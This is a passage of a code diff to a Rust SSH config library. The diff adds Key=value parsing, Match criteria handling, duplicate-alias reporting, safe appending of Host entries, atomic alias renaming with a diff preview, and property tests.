@@ -6,13 +6,21 @@ Features:
 - Handles tilde (~) expansion and glob patterns in Include paths.
 - Builds a hierarchical tree of config files and their Host entries.
 - Exposes a simple utility to list concrete (non-wildcard) host aliases.
+- Appends new Host entries (e.g. for discovered machines).
+- Reports aliases defined more than once (the first definition wins).
+- Renames a Host alias across the tree (Host, Match host and ProxyJump), with a diff preview.
+- Imports Host entries in bulk from a CSV or YAML host list.
+- Lints the tree for risky settings, with suggested fixes.
 
 This is not a fully-compliant OpenSSH parser, but supports the common subset:
 - Host blocks: `Host alias1 alias2 ...`
-- Parameters within Host blocks: `Param value` (quotes allowed)
+- Parameters within Host blocks: `Param value` or `Param=value` (quotes allowed)
 - Include directives: `Include path/glob [path2/glob2 ...]` resolved relative to the including file
 - Comments starting with '#' (outside of quotes)
-- Ignores `Match` blocks (treated as non-host parsing context)
+- `Match` blocks: only `host`, `user` and `all` criteria are evaluated
+
+Parsing is covered by property tests, and by a cargo-fuzz target in `fuzz/`
+(`cargo +nightly fuzz run parse_config`).
 
 */
 
@@ -40,6 +48,8 @@ pub mod model {
         pub hosts: Vec<HostEntry>,   // hosts declared directly in this file
         pub includes: Vec<FileNode>, // resolved Include targets
         pub matches: Vec<MatchRule>, // parsed Match blocks in this file
+        /// 1-based line of the Include that pulled this file in (0 for the root)
+        pub included_at: usize,
     }
 
     /// A single host entry as parsed from a `Host` block.
@@ -59,6 +69,17 @@ pub mod model {
         }
     }
 
+    /// A concrete alias named by more than one Host entry. ssh takes each
+    /// parameter from the first entry that sets it, so later definitions
+    /// only supply the parameters earlier ones leave unset.
+    #[derive(Clone, Debug, PartialEq, Eq)]
+    pub struct DuplicateAlias {
+        pub alias: String,
+        /// (file, 1-based line) of each `Host` line naming it, in the order ssh
+        /// reads them (an Include's files where the Include line is); the first wins
+        pub definitions: Vec<(PathBuf, usize)>,
+    }
+
     /// A parsed Match rule with a set of conditions and parameter overrides.
     #[derive(Clone, Debug)]
     pub struct MatchRule {
@@ -79,7 +100,7 @@ pub mod model {
 
 pub mod load {
     use super::*;
-    use crate::model::{ConfigTree, FileNode, HostEntry};
+    use crate::model::{ConfigTree, DuplicateAlias, FileNode, HostEntry};
 
     /// Load and parse the user's SSH config (~/.ssh/config), resolving Include directives.
     pub fn load_user_config_tree() -> Result<ConfigTree> {
@@ -97,6 +118,18 @@ pub mod load {
         Ok(ConfigTree { root })
     }
 
+    /// Parse `text` as the config file at `path` without reading that file.
+    /// Include directives still resolve relative to `path` and read from disk.
+    pub fn parse_config(text: &str, path: &Path) -> Result<ConfigTree> {
+        let mut visited = HashSet::new();
+        if let Some(canon) = canonicalize_best_effort(path) {
+            visited.insert(canon);
+        }
+        let root = parse_text(text, path.to_path_buf(), &mut visited)
+            .with_context(|| format!("failed to parse {}", path.display()))?;
+        Ok(ConfigTree { root })
+    }
+
     /// Returns a flat, sorted, unique list of concrete aliases (no wildcards) found in the tree.
     pub fn list_aliases(tree: &ConfigTree) -> Vec<String> {
         let mut set = BTreeSet::new();
@@ -116,6 +149,52 @@ pub mod load {
         set.into_iter().collect()
     }
 
+    /// Host entries in the order ssh reads them: an included file's entries
+    /// come where its Include line is, not after the including file's own.
+    fn hosts_in_read_order(tree: &ConfigTree) -> Vec<&HostEntry> {
+        fn walk<'a>(node: &'a FileNode, out: &mut Vec<&'a HostEntry>) {
+            let mut includes = node.includes.iter().peekable();
+            for h in &node.hosts {
+                while let Some(inc) = includes.next_if(|inc| inc.included_at < h.line) {
+                    walk(inc, out);
+                }
+                out.push(h);
+            }
+            for inc in includes {
+                walk(inc, out);
+            }
+        }
+        let mut out = Vec::new();
+        walk(&tree.root, &mut out);
+        out
+    }
+
+    /// The first Host entry that names `alias` literally (glob patterns are not matched).
+    pub fn host_entry_for_alias<'a>(tree: &'a ConfigTree, alias: &str) -> Option<&'a HostEntry> {
+        hosts_in_read_order(tree)
+            .into_iter()
+            .find(|h| h.patterns.iter().any(|p| p == alias))
+    }
+
+    /// Concrete aliases defined more than once (in the same file or across
+    /// included ones), sorted by alias.
+    pub fn duplicate_aliases(tree: &ConfigTree) -> Vec<DuplicateAlias> {
+        let mut seen: BTreeMap<String, Vec<(PathBuf, usize)>> = BTreeMap::new();
+        for h in hosts_in_read_order(tree) {
+            for pat in h.patterns.iter().filter(|p| !is_glob_pattern(p)) {
+                let defs = seen.entry(pat.clone()).or_default();
+                // `Host a a` on one line is not a conflict.
+                if !defs.iter().any(|(p, l)| *p == h.source && *l == h.line) {
+                    defs.push((h.source.clone(), h.line));
+                }
+            }
+        }
+        seen.into_iter()
+            .filter(|(_, defs)| defs.len() > 1)
+            .map(|(alias, definitions)| DuplicateAlias { alias, definitions })
+            .collect()
+    }
+
     // ----------------------
     // Effective user resolution
     // ----------------------
@@ -271,12 +350,22 @@ pub mod load {
                     hosts: vec![],
                     includes: vec![],
                     matches: vec![],
+                    included_at: 0,
                 });
             }
         }
 
         let text = fs::read_to_string(&resolved)
             .with_context(|| format!("reading SSH config {}", resolved.display()))?;
+        parse_text(&text, resolved, visited)
+    }
+
+    /// Parse the contents of the config file at `resolved`, following its Includes.
+    fn parse_text(
+        text: &str,
+        resolved: PathBuf,
+        visited: &mut HashSet<PathBuf>,
+    ) -> Result<FileNode> {
         let mut includes: Vec<FileNode> = Vec::new();
         let mut hosts: Vec<HostEntry> = Vec::new();
         let mut matches: Vec<crate::model::MatchRule> = Vec::new();
@@ -301,13 +390,7 @@ pub mod load {
 
         for raw_line in text.lines() {
             line_no += 1;
-            let line = strip_inline_comment(raw_line).trim().to_string();
-            if line.is_empty() {
-                continue;
-            }
-
-            // Tokenize (respecting quotes)
-            let tokens = tokenize(&line);
+            let tokens = line_tokens(raw_line);
             if tokens.is_empty() {
                 continue;
             }
@@ -326,58 +409,40 @@ pub mod load {
                         line: prev.start_line,
                     });
                 }
-                // Parse conditions from tokens[1..]
+                // Parse conditions from tokens[1..]: host and user take one
+                // comma-separated list each; other criteria are not evaluated.
                 let mut conds: Vec<crate::model::MatchCond> = Vec::new();
-                let mut i = 1usize;
-                while i < tokens.len() {
-                    let t = tokens[i].to_ascii_lowercase();
-                    match t.as_str() {
-                        "all" => {
-                            conds.push(crate::model::MatchCond::All);
-                            i += 1;
-                        }
-                        "host" => {
-                            i += 1;
-                            let mut pats = Vec::new();
-                            while i < tokens.len() {
-                                let peek = tokens[i].to_ascii_lowercase();
-                                if peek == "user"
-                                    || peek == "host"
-                                    || peek == "all"
-                                    || peek == "final"
-                                {
-                                    break;
-                                }
-                                pats.push(tokens[i].clone());
-                                i += 1;
-                            }
-                            if !pats.is_empty() {
-                                conds.push(crate::model::MatchCond::Host(pats));
-                            }
-                        }
-                        "user" => {
-                            i += 1;
-                            let mut pats = Vec::new();
-                            while i < tokens.len() {
-                                let peek = tokens[i].to_ascii_lowercase();
-                                if peek == "user"
-                                    || peek == "host"
-                                    || peek == "all"
-                                    || peek == "final"
-                                {
-                                    break;
-                                }
-                                pats.push(tokens[i].clone());
-                                i += 1;
-                            }
-                            if !pats.is_empty() {
-                                conds.push(crate::model::MatchCond::User(pats));
+                let mut args = tokens[1..].iter();
+                while let Some(criterion) = args.next() {
+                    let criterion = criterion.to_ascii_lowercase();
+                    match criterion.as_str() {
+                        "all" => conds.push(crate::model::MatchCond::All),
+                        "host" | "user" => {
+                            let pats: Vec<String> = args
+                                .next()
+                                .map(|list| {
+                                    list.split(',')
+                                        .filter(|p| !p.is_empty())
+                                        .map(|p| p.to_string())
+                                        .collect()
+                                })
+                                .unwrap_or_default();
+                            if pats.is_empty() {
+                                continue;
                             }
+                            conds.push(if criterion == "host" {
+                                crate::model::MatchCond::Host(pats)
+                            } else {
+                                crate::model::MatchCond::User(pats)
+                            });
                         }
-                        // ignore unsupported criteria like "final", "exec", etc.
-                        _ => {
-                            i += 1;
+                        // canonical and final take no argument; exec, negated
+                        // criteria etc. take one, which is skipped with them.
+                        "canonical" | "final" => {}
+                        c if edit::MATCH_CRITERIA.contains(&c.trim_start_matches('!')) => {
+                            args.next();
                         }
+                        _ => {}
                     }
                 }
                 cur_match = Some(CurrentMatch {
@@ -397,7 +462,8 @@ pub mod load {
                     }
                     for pat in patterns {
                         for inc_path in expand_include_pattern(pat, resolved.parent()) {
-                            let sub = parse_file_recursive(&inc_path, None, visited)?;
+                            let mut sub = parse_file_recursive(&inc_path, None, visited)?;
+                            sub.included_at = line_no;
                             includes.push(sub);
                         }
                     }
@@ -426,6 +492,7 @@ pub mod load {
                     // Start new
                     let patterns = tokens[1..]
                         .iter()
+                        .filter(|s| !s.is_empty())
                         .map(|s| s.to_string())
                         .collect::<Vec<_>>();
                     if patterns.is_empty() {
@@ -483,6 +550,7 @@ pub mod load {
             hosts,
             includes,
             matches,
+            included_at: 0,
         })
     }
 
@@ -509,30 +577,35 @@ pub mod load {
     }
 
     fn strip_inline_comment(line: &str) -> String {
-        // Remove unquoted # and the rest of the line.
-        // Handles both '...' and "..." quotes. No backslash escaping.
-        let mut out = String::with_capacity(line.len());
-        let mut in_squote = false;
-        let mut in_dquote = false;
-        for (i, ch) in line.chars().enumerate() {
-            match ch {
-                '\'' if !in_dquote => in_squote = !in_squote,
-                '"' if !in_squote => in_dquote = !in_dquote,
-                '#' if !in_squote && !in_dquote => {
-                    // Comment starts here; ignore rest
-                    let _ = i; // suppress unused
-                    break;
-                }
-                _ => out.push(ch),
-            }
+        // Remove unquoted # and the rest of the line; quotes stay for tokenize.
+        line[..edit::comment_start(line).unwrap_or(line.len())].to_string()
+    }
+
+    /// Keyword and arguments of a config line, without its comment. The
+    /// keyword ends at whitespace or '=' (`Key value`, `Key=value` and
+    /// `Key = value` are the same line); arguments follow `tokenize`.
+    fn line_tokens(raw_line: &str) -> Vec<String> {
+        let line = strip_inline_comment(raw_line);
+        let line = line.trim();
+        let end = line
+            .find(|c: char| c.is_whitespace() || c == '=')
+            .unwrap_or(line.len());
+        if end == 0 {
+            return Vec::new();
         }
-        out
+        let rest = line[end..].trim_start();
+        let rest = rest.strip_prefix('=').unwrap_or(rest);
+        std::iter::once(line[..end].to_string())
+            .chain(tokenize(rest))
+            .collect()
     }
 
     fn tokenize(line: &str) -> Vec<String> {
-        // Split by whitespace, respecting quotes (single/double).
+        // Split by whitespace, respecting quotes (single/double). An
+        // unterminated quote runs to the end of the line; `""` is an empty token.
         let mut tokens = Vec::new();
         let mut cur = String::new();
+        let mut quoted = false;
         let mut in_squote = false;
         let mut in_dquote = false;
         let mut chars = line.chars().peekable();
@@ -540,20 +613,23 @@ pub mod load {
             match ch {
                 '\'' if !in_dquote => {
                     in_squote = !in_squote;
+                    quoted = true;
                 }
                 '"' if !in_squote => {
                     in_dquote = !in_dquote;
+                    quoted = true;
                 }
                 c if c.is_whitespace() && !in_squote && !in_dquote => {
-                    if !cur.is_empty() {
+                    if !cur.is_empty() || quoted {
                         tokens.push(cur.clone());
                         cur.clear();
+                        quoted = false;
                     }
                 }
                 _ => cur.push(ch),
             }
         }
-        if !cur.is_empty() {
+        if !cur.is_empty() || quoted {
             tokens.push(cur);
         }
         tokens
@@ -599,4 +675,1409 @@ pub mod load {
     fn is_glob_pattern(s: &str) -> bool {
         s.contains('*') || s.contains('?') || Regex::new(r"\[[^]]+\]").unwrap().is_match(s)
     }
+
+    #[cfg(test)]
+    mod tests {
+        use super::*;
+        use crate::model::MatchCond;
+        use proptest::prelude::*;
+        use std::sync::atomic::{AtomicUsize, Ordering};
+
+        fn parse(text: &str) -> FileNode {
+            parse_config(text, Path::new("/nonexistent/ssh_config"))
+                .unwrap()
+                .root
+        }
+
+        /// A fresh, empty directory for include tests.
+        fn scratch_dir() -> PathBuf {
+            static NEXT: AtomicUsize = AtomicUsize::new(0);
+            let dir = std::env::temp_dir().join(format!(
+                "slarti-sshcfg-{}-{}",
+                std::process::id(),
+                NEXT.fetch_add(1, Ordering::SeqCst)
+            ));
+            let _ = fs::remove_dir_all(&dir);
+            fs::create_dir_all(&dir).unwrap();
+            dir
+        }
+
+        /// What ssh accepts between a keyword and its arguments.
+        fn separator() -> impl Strategy<Value = &'static str> {
+            prop::sample::select(vec![" ", "\t", "=", " = ", "\t=  "])
+        }
+
+        proptest! {
+            #[test]
+            fn any_line_tokenizes(line in "\\PC*") {
+                let tokens = line_tokens(&line);
+                prop_assert!(tokens.first().is_none_or(|k| !k.is_empty()));
+            }
+
+            #[test]
+            fn unquoted_words_split_on_whitespace(line in "[a-zA-Z0-9.*?!@:/_,= \t-]{0,60}") {
+                prop_assert_eq!(tokenize(&line), line.split_whitespace().collect::<Vec<_>>());
+            }
+
+            #[test]
+            fn quoted_words_survive_comment_stripping(
+                words in prop::collection::vec("[^\"\n\r]{0,12}", 1..5),
+                gap in "[ \t]{1,3}",
+            ) {
+                let line = words
+                    .iter()
+                    .map(|w| format!("\"{}\"", w))
+                    .collect::<Vec<_>>()
+                    .join(&gap);
+                prop_assert_eq!(tokenize(&strip_inline_comment(&line)), words);
+            }
+
+            #[test]
+            fn comment_ends_the_line(code in "[a-zA-Z0-9 =.\t-]{0,30}", comment in "\\PC*") {
+                prop_assert_eq!(strip_inline_comment(&format!("{}#{}", code, comment)), code);
+            }
+
+            #[test]
+            fn key_value_separators_are_equivalent(
+                key in "[A-Z][a-zA-Z]{1,15}",
+                value in "[a-zA-Z0-9./:@_%-]{1,20}",
+                sep in separator(),
+            ) {
+                prop_assume!(!["host", "match", "include"].contains(&key.to_ascii_lowercase().as_str()));
+                let root = parse(&format!("Host{}a\n  {}{}{}\n", sep, key, sep, value));
+                prop_assert_eq!(&root.hosts[0].patterns, &vec!["a".to_string()]);
+                prop_assert_eq!(root.hosts[0].get(&key), Some(value.as_str()));
+            }
+
+            #[test]
+            fn match_criteria_take_their_arguments(
+                hosts in prop::collection::vec("[a-z*?][a-z0-9.*-]{0,10}", 1..4),
+                users in prop::collection::vec("[a-z_][a-z0-9_]{0,8}", 1..3),
+                exec in "[a-z ]{0,20}",
+            ) {
+                let root = parse(&format!(
+                    "Match exec \"{}\" final host {} !user nobody user {}\n  User override\n",
+                    exec,
+                    hosts.join(","),
+                    users.join(",")
+                ));
+                prop_assert_eq!(root.matches.len(), 1);
+                let rule = &root.matches[0];
+                prop_assert!(
+                    matches!(
+                        rule.conditions.as_slice(),
+                        [MatchCond::Host(h), MatchCond::User(u)] if *h == hosts && *u == users
+                    ),
+                    "{:?}",
+                    rule.conditions
+                );
+                prop_assert_eq!(rule.params.get("user").map(String::as_str), Some("override"));
+            }
+
+            #[test]
+            fn arbitrary_lines_parse(
+                lines in prop::collection::vec(
+                    (
+                        prop::sample::select(vec!["Host", "match", "User", "ProxyJump", "#", ""]),
+                        separator(),
+                        "\\PC{0,24}",
+                    ),
+                    0..16,
+                ),
+                alias in "\\PC{0,12}",
+            ) {
+                let text: String = lines
+                    .iter()
+                    .map(|(key, sep, value)| format!("{}{}{}\n", key, sep, value))
+                    .collect();
+                let tree = parse_config(&text, Path::new("/nonexistent/ssh_config")).unwrap();
+                for host in &tree.root.hosts {
+                    prop_assert!(!host.patterns.is_empty());
+                    prop_assert!(host.patterns.iter().all(|p| !p.is_empty()));
+                }
+                let _ = list_aliases(&tree);
+                let _ = effective_user_for_alias(&tree, &alias);
+            }
+
+            #[test]
+            fn recursive_includes_read_each_file_once(n in 1usize..6) {
+                // Every file includes all of them, itself too.
+                let dir = scratch_dir();
+                for i in 0..n {
+                    fs::write(
+                        dir.join(format!("{}.conf", i)),
+                        format!("Include *.conf\nHost h{}\n", i),
+                    )
+                    .unwrap();
+                }
+                let tree = load_from_path(&dir.join("0.conf")).unwrap();
+                let expected: Vec<String> = (0..n).map(|i| format!("h{}", i)).collect();
+                prop_assert_eq!(list_aliases(&tree), expected);
+                prop_assert!(duplicate_aliases(&tree).is_empty());
+                fs::remove_dir_all(&dir).unwrap();
+            }
+
+            #[test]
+            fn quoted_include_paths_keep_spaces(name in "[a-z]{1,6}( [a-z]{1,6}){1,2}") {
+                let dir = scratch_dir();
+                fs::write(dir.join(format!("{}.conf", name)), "Host included\n").unwrap();
+                let tree = parse_config(
+                    &format!("Include \"{}.conf\" # spaces\nHost top\n", name),
+                    &dir.join("config"),
+                )
+                .unwrap();
+                prop_assert_eq!(list_aliases(&tree), vec!["included", "top"]);
+                fs::remove_dir_all(&dir).unwrap();
+            }
+        }
+
+        #[test]
+        fn duplicates_follow_the_include_position() {
+            let dir = scratch_dir();
+            fs::create_dir_all(dir.join("conf.d")).unwrap();
+            fs::write(dir.join("conf.d/web.conf"), "Host web\n  User included\n").unwrap();
+            fs::write(dir.join("late.conf"), "Host db\n  User late\n").unwrap();
+            let config = dir.join("config");
+            fs::write(
+                &config,
+                "Include conf.d/*.conf\nHost web db\n  User top\nInclude late.conf\n",
+            )
+            .unwrap();
+            let tree = load_from_path(&config).unwrap();
+            let web_conf = canonicalize_best_effort(&dir.join("conf.d/web.conf")).unwrap();
+            let late_conf = canonicalize_best_effort(&dir.join("late.conf")).unwrap();
+            let config = canonicalize_best_effort(&config).unwrap();
+
+            // The leading Include is read before the Host line that follows
+            // it, the trailing one after.
+            assert_eq!(
+                duplicate_aliases(&tree),
+                vec![
+                    DuplicateAlias {
+                        alias: "db".to_string(),
+                        definitions: vec![(config.clone(), 2), (late_conf, 1)],
+                    },
+                    DuplicateAlias {
+                        alias: "web".to_string(),
+                        definitions: vec![(web_conf, 1), (config, 2)],
+                    },
+                ]
+            );
+            let web = host_entry_for_alias(&tree, "web").unwrap();
+            assert_eq!(web.get("user"), Some("included"));
+            let db = host_entry_for_alias(&tree, "db").unwrap();
+            assert_eq!(db.get("user"), Some("top"));
+            fs::remove_dir_all(&dir).unwrap();
+        }
+
+        #[test]
+        fn unterminated_quote_runs_to_end_of_line() {
+            let root = parse("Host a\n  ProxyCommand \"ssh -W %h:%p bastion\n  User u\n");
+            assert_eq!(
+                root.hosts[0].get("proxycommand"),
+                Some("ssh -W %h:%p bastion")
+            );
+            assert_eq!(root.hosts[0].get("user"), Some("u"));
+        }
+    }
+}
+
+pub mod edit {
+    use super::*;
+    use crate::model::{ConfigTree, FileNode};
+    use std::io::Write;
+    use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt};
+
+    /// Append a `Host <alias>` entry with `params` to the ssh config at `path`,
+    /// creating the file (0600, in a 0700 directory) if it does not exist.
+    pub fn append_host(path: &Path, alias: &str, params: &[(&str, String)]) -> Result<()> {
+        check_alias(alias)?;
+        let lines = params
+            .iter()
+            .map(|(key, value)| param_line(key, value))
+            .collect::<Result<Vec<_>>>()?;
+        if let Some(dir) = path.parent() {
+            fs::DirBuilder::new()
+                .recursive(true)
+                .mode(0o700)
+                .create(dir)
+                .with_context(|| format!("failed to create {}", dir.display()))?;
+        }
+        let existing = fs::read_to_string(path).unwrap_or_default();
+        let mut block = String::new();
+        if !existing.is_empty() {
+            // Keep the new entry separated from whatever ends the file.
+            block.push_str(if existing.ends_with('\n') {
+                "\n"
+            } else {
+                "\n\n"
+            });
+        }
+        block.push_str(&format!("Host {}\n", alias));
+        for line in lines {
+            block.push_str(&format!("    {}\n", line));
+        }
+        let mut file = fs::OpenOptions::new()
+            .create(true)
+            .append(true)
+            .mode(0o600)
+            .open(path)
+            .with_context(|| format!("failed to open {}", path.display()))?;
+        file.write_all(block.as_bytes())
+            .with_context(|| format!("failed to write {}", path.display()))
+    }
+
+    /// A `key value` line of a Host block. Values come from imported lists
+    /// and discovery, so nothing may break out of the line (a newline would
+    /// start a new directive, e.g. a ProxyCommand); values with whitespace
+    /// are quoted.
+    pub(crate) fn param_line(key: &str, value: &str) -> Result<String> {
+        if key.is_empty() || !key.chars().all(|c| c.is_ascii_alphanumeric()) {
+            return Err(anyhow!("invalid ssh_config keyword {:?}", key));
+        }
+        if value.is_empty() || value.contains('"') || value.chars().any(char::is_control) {
+            return Err(anyhow!("invalid {} value {:?}", key, value));
+        }
+        if value.contains(char::is_whitespace) {
+            Ok(format!("{} \"{}\"", key, value))
+        } else {
+            Ok(format!("{} {}", key, value))
+        }
+    }
+
+    /// One line rewritten by a rename.
+    #[derive(Clone, Debug, PartialEq, Eq)]
+    pub struct LineChange {
+        pub line: usize, // 1-based
+        pub before: String,
+        pub after: String,
+    }
+
+    /// The rewrites of one config file.
+    #[derive(Clone, Debug)]
+    pub struct FileRename {
+        pub path: PathBuf,
+        pub changes: Vec<LineChange>,
+        original: String,
+        updated: String,
+    }
+
+    /// A previewed rename of a Host alias across every file of a config tree.
+    #[derive(Clone, Debug)]
+    pub struct RenamePlan {
+        pub from: String,
+        pub to: String,
+        pub files: Vec<FileRename>,
+    }
+
+    /// Plan renaming the concrete alias `from` to `to`: its `Host` patterns,
+    /// `Match host`/`originalhost` references and ProxyJump hops in every file
+    /// of `tree`. Glob patterns that happen to match `from` are left alone.
+    pub fn plan_rename(tree: &ConfigTree, from: &str, to: &str) -> Result<RenamePlan> {
+        check_alias(to)?;
+        let aliases = load::list_aliases(tree);
+        if !aliases.iter().any(|a| a == from) {
+            return Err(anyhow!("no Host entry named {:?}", from));
+        }
+        if aliases.iter().any(|a| a == to) {
+            return Err(anyhow!("{:?} is already a host alias", to));
+        }
+        fn walk(node: &FileNode, out: &mut Vec<PathBuf>) {
+            // Files included twice appear again as empty nodes; rewrite each once.
+            if !out.contains(&node.path) {
+                out.push(node.path.clone());
+            }
+            for inc in &node.includes {
+                walk(inc, out);
+            }
+        }
+        let mut paths = Vec::new();
+        walk(&tree.root, &mut paths);
+
+        let mut files = Vec::new();
+        for path in paths {
+            let original = fs::read_to_string(&path)
+                .with_context(|| format!("reading SSH config {}", path.display()))?;
+            let mut changes = Vec::new();
+            let mut updated = String::with_capacity(original.len());
+            for (i, raw) in original.split_inclusive('\n').enumerate() {
+                let body = raw.trim_end_matches(['\n', '\r']);
+                match rename_in_line(body, from, to) {
+                    Some(after) => {
+                        updated.push_str(&after);
+                        updated.push_str(&raw[body.len()..]);
+                        changes.push(LineChange {
+                            line: i + 1,
+                            before: body.to_string(),
+                            after,
+                        });
+                    }
+                    None => updated.push_str(raw),
+                }
+            }
+            if !changes.is_empty() {
+                files.push(FileRename {
+                    path,
+                    changes,
+                    original,
+                    updated,
+                });
+            }
+        }
+        Ok(RenamePlan {
+            from: from.to_string(),
+            to: to.to_string(),
+            files,
+        })
+    }
+
+    impl RenamePlan {
+        /// The planned changes as a unified diff.
+        pub fn diff(&self) -> String {
+            let mut out = String::new();
+            for file in &self.files {
+                out.push_str(&format!(
+                    "--- {}\n+++ {}\n",
+                    file.path.display(),
+                    file.path.display()
+                ));
+                for c in &file.changes {
+                    out.push_str(&format!(
+                        "@@ -{},1 +{},1 @@\n-{}\n+{}\n",
+                        c.line, c.line, c.before, c.after
+                    ));
+                }
+            }
+            out
+        }
+
+        /// Write the planned changes. Fails without writing anything if a file
+        /// changed since the plan was made or any new contents cannot be
+        /// written: every file is staged to a temp file before the first is
+        /// renamed into place.
+        pub fn apply(&self) -> Result<()> {
+            for file in &self.files {
+                let current = fs::read_to_string(&file.path)
+                    .with_context(|| format!("reading SSH config {}", file.path.display()))?;
+                if current != file.original {
+                    return Err(anyhow!(
+                        "{} changed since the rename was previewed",
+                        file.path.display()
+                    ));
+                }
+            }
+            let mut staged = Vec::new();
+            for file in &self.files {
+                match stage_file(&file.path, &file.updated) {
+                    Ok(tmp) => staged.push((tmp, &file.path)),
+                    Err(e) => {
+                        for (tmp, _) in &staged {
+                            let _ = fs::remove_file(tmp);
+                        }
+                        return Err(e);
+                    }
+                }
+            }
+            let mut staged = staged.into_iter();
+            while let Some((tmp, path)) = staged.next() {
+                if let Err(e) = fs::rename(&tmp, path) {
+                    for (tmp, _) in std::iter::once((tmp, path)).chain(staged) {
+                        let _ = fs::remove_file(tmp);
+                    }
+                    return Err(e).with_context(|| format!("failed to replace {}", path.display()));
+                }
+            }
+            Ok(())
+        }
+    }
+
+    /// Write `text` to a temporary file beside `path` with the file's
+    /// permissions, ready to be renamed over it.
+    fn stage_file(path: &Path, text: &str) -> Result<PathBuf> {
+        let name = path
+            .file_name()
+            .ok_or_else(|| anyhow!("invalid path {}", path.display()))?;
+        let tmp = path.with_file_name(format!(".{}.slarti-tmp", name.to_string_lossy()));
+        let perms = fs::metadata(path)
+            .with_context(|| format!("failed to stat {}", path.display()))?
+            .permissions();
+        fs::write(&tmp, text)
+            .and_then(|()| fs::set_permissions(&tmp, perms))
+            .inspect_err(|_| {
+                let _ = fs::remove_file(&tmp);
+            })
+            .with_context(|| format!("failed to write {}", tmp.display()))?;
+        Ok(tmp)
+    }
+
+    /// Write `text` to `path` via a temporary file in the same directory,
+    /// keeping the file's permissions.
+    pub(crate) fn replace_file(path: &Path, text: &str) -> Result<()> {
+        let tmp = stage_file(path, text)?;
+        fs::rename(&tmp, path)
+            .inspect_err(|_| {
+                let _ = fs::remove_file(&tmp);
+            })
+            .with_context(|| format!("failed to replace {}", path.display()))
+    }
+
+    pub(crate) fn check_alias(alias: &str) -> Result<()> {
+        if alias.is_empty()
+            || alias.chars().any(|c| {
+                c.is_whitespace()
+                    || c.is_control()
+                    || matches!(c, '#' | '*' | '?' | '!' | ',' | '"' | '\'')
+            })
+        {
+            return Err(anyhow!("invalid host alias {:?}", alias));
+        }
+        Ok(())
+    }
+
+    /// Criteria keywords of a `Match` line.
+    pub(crate) const MATCH_CRITERIA: &[&str] = &[
+        "all",
+        "canonical",
+        "final",
+        "exec",
+        "host",
+        "originalhost",
+        "tagged",
+        "user",
+        "localuser",
+        "localnetwork",
+    ];
+
+    /// The line with `from` replaced by `to` where it names the host, if it does anywhere.
+    fn rename_in_line(line: &str, from: &str, to: &str) -> Option<String> {
+        let (code, comment) = line.split_at(comment_start(line).unwrap_or(line.len()));
+        let start = code.len() - code.trim_start().len();
+        let key_end = code[start..]
+            .find(|c: char| c.is_whitespace() || c == '=')
+            .map_or(code.len(), |i| start + i);
+        let args = &code[key_end..];
+        let renamed = match code[start..key_end].to_ascii_lowercase().as_str() {
+            "host" => map_words(args, false, |w| rename_pattern(w, from, to)),
+            "match" => {
+                let mut in_host = false;
+                map_words(args, true, |w| {
+                    let criterion = w.trim_start_matches('!').to_ascii_lowercase();
+                    if MATCH_CRITERIA.contains(&criterion.as_str()) {
+                        in_host = criterion == "host" || criterion == "originalhost";
+                        None
+                    } else if in_host {
+                        rename_pattern(w, from, to)
+                    } else {
+                        None
+                    }
+                })
+            }
+            "proxyjump" => map_words(args, true, |w| rename_jump(w, from, to)),
+            _ => return None,
+        };
+        (renamed != args).then(|| format!("{}{}{}", &code[..key_end], renamed, comment))
+    }
+
+    /// Rebuild `s` with each word passed through `f`, keeping the separators
+    /// (whitespace, '=' and optionally ',') as they were. Quoted text is part of its word.
+    fn map_words(s: &str, commas: bool, mut f: impl FnMut(&str) -> Option<String>) -> String {
+        let is_sep = |c: char| c.is_whitespace() || c == '=' || (commas && c == ',');
+        let mut out = String::with_capacity(s.len());
+        let mut rest = s;
+        while !rest.is_empty() {
+            let word = rest.trim_start_matches(is_sep);
+            out.push_str(&rest[..rest.len() - word.len()]);
+            let mut quote = None;
+            let end = word
+                .char_indices()
+                .find(|&(_, c)| match quote {
+                    Some(q) => {
+                        if c == q {
+                            quote = None;
+                        }
+                        false
+                    }
+                    None if c == '"' || c == '\'' => {
+                        quote = Some(c);
+                        false
+                    }
+                    None => is_sep(c),
+                })
+                .map_or(word.len(), |(i, _)| i);
+            if end > 0 {
+                out.push_str(&f(&word[..end]).unwrap_or_else(|| word[..end].to_string()));
+            }
+            rest = &word[end..];
+        }
+        out
+    }
+
+    /// Split surrounding quotes off a word: (quote, inner).
+    fn unquote(word: &str) -> (&str, &str) {
+        for q in ["\"", "'"] {
+            if word.len() >= 2 && word.starts_with(q) && word.ends_with(q) {
+                return (q, &word[1..word.len() - 1]);
+            }
+        }
+        ("", word)
+    }
+
+    /// A host pattern (possibly negated or quoted) renamed if it is exactly `from`.
+    fn rename_pattern(word: &str, from: &str, to: &str) -> Option<String> {
+        let (neg, rest) = match word.strip_prefix('!') {
+            Some(rest) => ("!", rest),
+            None => ("", word),
+        };
+        let (q, inner) = unquote(rest);
+        (inner == from).then(|| format!("{}{}{}{}", neg, q, to, q))
+    }
+
+    /// A ProxyJump hop (`[user@]host[:port]` or `ssh://[user@]host[:port]`)
+    /// renamed if its host is `from`.
+    fn rename_jump(word: &str, from: &str, to: &str) -> Option<String> {
+        let (q, inner) = unquote(word);
+        let scheme = if inner.starts_with("ssh://") { 6 } else { 0 };
+        let host_start = inner[scheme..]
+            .rfind('@')
+            .map_or(scheme, |i| scheme + i + 1);
+        let host_end = inner[host_start..]
+            .find(':')
+            .map_or(inner.len(), |i| host_start + i);
+        (&inner[host_start..host_end] == from).then(|| {
+            format!(
+                "{}{}{}{}{}",
+                q,
+                &inner[..host_start],
+                to,
+                &inner[host_end..],
+                q
+            )
+        })
+    }
+
+    /// Byte offset of an unquoted '#' (the start of a comment), if any.
+    pub(crate) fn comment_start(line: &str) -> Option<usize> {
+        let mut in_squote = false;
+        let mut in_dquote = false;
+        for (i, ch) in line.char_indices() {
+            match ch {
+                '\'' if !in_dquote => in_squote = !in_squote,
+                '"' if !in_squote => in_dquote = !in_dquote,
+                '#' if !in_squote && !in_dquote => return Some(i),
+                _ => {}
+            }
+        }
+        None
+    }
+
+    #[cfg(test)]
+    mod tests {
+        use super::*;
+
+        /// A fresh, empty directory for one test.
+        fn scratch_dir(name: &str) -> PathBuf {
+            let dir =
+                std::env::temp_dir().join(format!("slarti-rename-{}-{}", name, std::process::id()));
+            let _ = fs::remove_dir_all(&dir);
+            fs::create_dir_all(&dir).unwrap();
+            dir
+        }
+
+        fn rename(line: &str) -> Option<String> {
+            rename_in_line(line, "web1", "web-1")
+        }
+
+        #[test]
